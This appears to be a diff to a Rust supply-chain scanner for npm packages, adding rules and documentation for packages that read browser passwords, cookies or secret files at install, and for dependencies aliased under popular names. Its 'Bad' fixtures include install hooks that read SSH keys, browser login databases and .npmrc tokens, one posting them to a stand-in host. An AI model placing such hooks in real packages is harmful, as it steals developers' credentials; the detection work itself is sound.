@@ -10,6 +10,7 @@ pub mod collection {
     pub mod agent_run_without_questions;
     pub mod browser_profile_copied;
     pub mod browser_profile_sent;
+    pub mod browser_secrets_read_unasked;
     pub mod clipboard_sent;
     pub mod cloud_credentials_sent;
     pub mod dotenv_file_sent;
@@ -22,6 +23,7 @@ pub mod collection {
     pub mod npm_token_sent_to_network;
     pub mod process_memory_read;
     pub mod secret_argument_sent;
+    pub mod secret_file_read_unasked;
     pub mod secret_scanner_run;
     pub mod secret_variable_sent_unasked;
     pub mod secrets_read_from_many_places;
@@ -35,6 +37,7 @@ pub mod collection {
 /// Rules of the tactic disguise.
 #[path = "rules/disguise"]
 pub mod disguise {
+    pub mod alias_to_stranger;
     pub mod bin_shadows_command;
     pub mod dependency_confusion_shape;
     pub mod dependency_from_throw_away_host;
@@ -193,6 +196,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::agent_run_without_questions::AgentRunWithoutQuestions,
     &collection::browser_profile_copied::BrowserProfileCopied,
     &collection::browser_profile_sent::BrowserProfileSent,
+    &collection::browser_secrets_read_unasked::BrowserSecretsReadUnasked,
     &collection::clipboard_sent::ClipboardSent,
     &collection::cloud_credentials_sent::CloudCredentialsSent,
     &collection::dotenv_file_sent::DotenvFileSent,
@@ -205,6 +209,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::npm_token_sent_to_network::NpmTokenSentToNetwork,
     &collection::process_memory_read::ProcessMemoryRead,
     &collection::secret_argument_sent::SecretArgumentSent,
+    &collection::secret_file_read_unasked::SecretFileReadUnasked,
     &collection::secret_scanner_run::SecretScannerRun,
     &collection::secret_variable_sent_unasked::SecretVariableSentUnasked,
     &collection::secrets_read_from_many_places::SecretsReadFromManyPlaces,
@@ -213,6 +218,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::ssh_key_sent::SshKeySent,
     &collection::wallet_extension_storage_read::WalletExtensionStorageRead,
     &collection::wallet_file_sent::WalletFileSent,
+    &disguise::alias_to_stranger::AliasToStranger,
     &disguise::bin_shadows_command::BinShadowsCommand,
     &disguise::dependency_confusion_shape::DependencyConfusionShape,
     &disguise::dependency_from_throw_away_host::DependencyFromThrowAwayHost,
@@ -462,6 +468,59 @@ axios.post("http://203.0.113.9:1224/uploads", { rows }); //~ here
 const fs = require("fs"), os = require("os"), path = require("path");
 exports.isInstalled = () => fs.existsSync(path.join(os.homedir(), ".config/google-chrome"));
 exports.newProfile = () => fs.mkdtempSync(path.join(os.tmpdir(), "profile-"));
+```
+
+## References
+
+- Socket: BeaverTail packages (March 2025)
+"#,
+    ),
+    (
+        "browser-secrets-read-unasked",
+        r#"# A browser's passwords or cookies are read unasked
+
+At install or import, the database in which a browser keeps passwords, cookies or cards is opened,
+wherever it goes then.
+
+## Why it matters
+
+No package has a reason to open them before anyone calls it. What is read so is stolen, whether or not
+the way out can be followed.
+
+## Known benign uses
+
+Browser drivers and readers of cookies open a profile when they are called.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path");
+const root = path.join(os.homedir(), ".config/BraveSoftware/Brave-Browser");
+for (const profile of ["Default", "Profile 1"]) {
+  globalThis.held = fs.readFileSync(path.join(root, profile, "Login Data")); //~ here
+}
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const Database = require("better-sqlite3");
+const rows = new Database(process.env.HOME + "/.mozilla/firefox/a.default/cookies.sqlite").prepare("select 1").all(); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), path = require("path");
+exports.cookies = (profile) => fs.readFileSync(path.join(profile, "Cookies"));
+exports.jar = fs.existsSync("cookies.sqlite");
 ```
 
 ## References
@@ -1115,6 +1174,49 @@ exports.importKey = (endpoint, privateKey) => fetch(endpoint + "/keys", { method
 "#,
     ),
     (
+        "secret-file-read-unasked",
+        r#"# A file that holds secrets is read unasked
+
+At install or import, keys, tokens, wallets or histories in the home folder are read. Where they go
+could not be followed.
+
+## Why it matters
+
+A hidden way out is still a way out: what is read beside concealed code or another threat is likely
+stolen.
+
+## Known benign uses
+
+Package managers and clients read their own settings when they are loaded.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os");
+const key = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519"); //~ here
+fetch("http://169.254.170.2/v2/credentials/x").then((reply) => globalThis.done(reply, key));
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os");
+exports.settings = fs.readFileSync(os.homedir() + "/.npmrc", "utf8").split("\n").length;
+exports.key = (name) => fs.readFileSync(os.homedir() + "/.ssh/" + name);
+```
+
+## References
+
+- OWASP: npm supply chain worms of 2025
+"#,
+    ),
+    (
         "secret-scanner-run",
         r#"# A scanner for secrets is run unasked
 
@@ -1526,6 +1628,55 @@ fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: Buffer.from
 "#,
     ),
     (
+        "alias-to-stranger",
+        r#"# A popular name stands for another package
+
+A dependency, an override or a resolution gives a popular name to a package that is not popular and whose name does
+not hold it.
+
+## Why it matters
+
+Whoever reads `require("lodash")`, or the list of dependencies, sees the name and not what stands behind it.
+
+## Known benign uses
+
+Forks that keep the name within their own, and second versions of one package. Replacements of abandoned packages look
+the same, so it never decides alone.
+
+## Bad
+
+```package
+== package.json //~ 3
+{
+  "name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"},
+  "dependencies": {"lodash": "npm:tiny-collections@4.17.21"}
+}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "dependencies": {"string-width-cjs": "npm:string-width@^4.2.0", "lodash": "npm:@acme/lodash@^4.0.0"}}
+```
+
+```package project
+== package.json
+{"name": "app", "version": "1.0.0", "overrides": {"rollup": "npm:@rollup/wasm-node@^4.0.0"}, "resolutions": {"vite": "npm:rolldown-vite@latest"}}
+```
+
+## References
+
+- npm documentation: package.json, aliases and overrides
+"#,
+    ),
+    (
         "bin-shadows-command",
         r#"# A command of the package has the name of a system tool
 
@@ -1554,6 +1705,13 @@ Packages that bring the tool itself, which are named after it, and Corepack.
 }
 == cli.js
 console.log("npm");
+```
+
+```package
+== package.json //~ 1
+{"name": "left-pad-utils", "version": "1.0.0", "directories": {"bin": "./tools"}}
+== tools/git
+console.log("git");
 ```
 
 ## Good
@@ -1664,7 +1822,7 @@ Archives of the known forges over plain HTTP, in old releases. Registries on the
 
 ```package
 == package.json
-{"name": "x", "version": "1.0.0", "dependencies": {"tool": "http://github.com/acme/tool/tarball/v1.0.0"}}
+{"name": "x", "version": "1.0.0", "dependencies": {"tool": "http://nodeload.github.com/acme/tool/tarball/v1.0.0"}}
 ```
 
 ## References
